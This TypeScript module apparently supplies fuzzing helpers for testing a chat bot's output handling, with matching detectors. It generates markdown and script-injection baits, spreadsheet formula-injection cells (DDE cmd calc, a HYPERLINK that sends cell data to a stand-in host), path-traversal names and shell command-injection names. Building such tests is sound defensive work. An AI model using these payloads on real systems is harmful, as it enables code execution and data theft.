type Random = () => number;
const pick = (list: readonly string[], random: Random): string =>
  list[Math.floor(random() * list.length)] ?? '';

/** What is looked for in every text that comes back: each bait holds it. */
export const MARK = 'onda';

const URLS = [
  'https://onda.example/x',
  'http://onda.example',
  'HTTPS://onda.example',
  'www.onda.example',
  '//onda.example',
  'mailto:x@onda.example',
  'tel:112;onda',
  'javascript:onda(1)',
  'data:text/html,onda',
  'msteams:/l/chat/onda',
  'file:///onda',
  'vbscript:onda',
];
const AROUND: readonly ((url: string) => string)[] = [
  (url) => `[klicka](${url})`,
  (url) => `![bild](${url})`,
  (url) => `<${url}>`,
  (url) => `<a href="${url}">klicka</a>`,
  (url) => `[x]: ${url}`,
  (url) => `&#91;x&#93;&#40;${url}&#41;`,
  (url) => `[\u200bx](${url})`,
  (url) => url,
];
const SIGNS = [
  '**onda**',
  '__onda__',
  '*onda*',
  '_onda_',
  '~~onda~~',
  '`onda`',
  '\\*onda\\*',
  '| onda | b |',
  '# onda',
  '## onda',
  '> onda',
  '- onda',
  '* onda',
  '+ onda',
  '1. onda',
  '7) onda',
  '--- onda',
  'onda\n# två',
  'onda\r\n- två',
  '<at>onda</at>',
  '<at id="1">onda</at>',
  '&lt;at&gt;onda&lt;/at&gt;',
  '{{DATE(2026-01-01T00:00:00Z, SHORT)}} onda',
  '${onda}',
  '<b>onda</b>',
  '<script>onda</script>',
  '<!-- onda -->',
  '<img src=x onerror=onda>',
  '\u202eadno onda',
  'on\u200bda onda',
  '\u0000onda',
  '［onda］（y）',
];

/** A text that a careless client would draw as something else: a link, a mention, a heading, hidden words. */
export function bait(random: Random): string {
  const core =
    random() < 0.5
      ? (AROUND[Math.floor(random() * AROUND.length)]?.(pick(URLS, random)) ?? MARK)
      : pick(SIGNS, random);
  return (pick(['', '', 'VC ', 'se '], random) + core + pick(['', '', ' tack', '!'], random)).slice(0, 90);
}

/** What would be more than letters, where our own `**bold**` and words to write in `code` have been taken away. */
const ACTIVE =
  /[[\]<\\*~]|\/\/|\bwww\.|\b(https?|mailto|javascript|vbscript|msteams|data|file|tel):|&[#\w]+;|\{\{|^\s*(#|>|[-+*]\s|\d+[.)]\s|---)|_|\p{Cf}|\p{Cc}/iu;

/** Whether a text drawn as markdown would be more than letters. */
export function isActive(text: string): boolean {
  const own = (words: string) => words.replace(/\*\*[^*]+\*\*/g, (bold) => bold.slice(2, -2));
  const parts = [own(text), ...text.split('**')].map((part) => part.replace(/`[^`]+`/g, 'kod'));
  return parts.some((part) => ACTIVE.test(part) || part.includes('`'));
}

const STARTS = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  "'=",
  '＝',
  '＋',
  '－',
  '＠',
  '﹦',
  '﹢',
  '﹣',
  '﹫',
  '\u200b=',
];
const FORMULAS = [
  '1+1',
  'HYPERLINK("http://onda.example?"&A1;"klicka")',
  "cmd|'/c calc'!A0",
  'SUM(A1:A9)',
  'DDE("cmd";"/c calc";"!A0")',
  'IMPORTXML("http://onda.example")',
  'WEBSERVICE("http://onda.example")',
  "2+5+cmd|' /c calc'!A0",
];
const BEFORE = ['', '', '', 'a;', 'a,', 'a, ', '"', '";', 'a\n', 'a\t'];

/** A cell that is there to be evaluated; the last of it says where another begins. */
export function formula(random: Random): string {
  return (
    pick(BEFORE, random) + pick(STARTS, random) + pick(FORMULAS, random) + pick(['', ',b', ';b'], random)
  );
}

/** What a spreadsheet takes for a formula, spaces and what is not seen before it let alone. */
export function isEvaluated(cell: string): boolean {
  return /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠﹦﹢﹣﹫]/u.test(cell);
}

const UPS = [
  '../',
  '..\\',
  '../../../',
  '%2e%2e/',
  '....//',
  '..%c0%af',
  '/',
  '\\\\onda.example\\x\\',
  'file:///',
  'C:\\',
  '~/',
];
/** What a shell would make of some of the names. */
export const RUN = 'kraftbot-was-run';
const NAMES = [
  'etc/passwd',
  'onda',
  'onda.exe',
  'onda\u0000.docx',
  'onda\n.docx',
  'onda\u202excod.exe',
  `$(touch ${RUN})`,
  `\`touch ${RUN}\``,
  `; touch ${RUN}`,
  `| touch ${RUN}`,
  '-rf',
  '--help',
  '__proto__',
  'constructor',
  'con',
  '.',
  '*',
  'ä'.repeat(300),
  ' ',
  'https://onda.example/',
];

/** A name that means another place than it should. */
export function pathName(random: Random): string {
  return (random() < 0.7 ? pick(UPS, random) : '') + pick(NAMES, random);
}
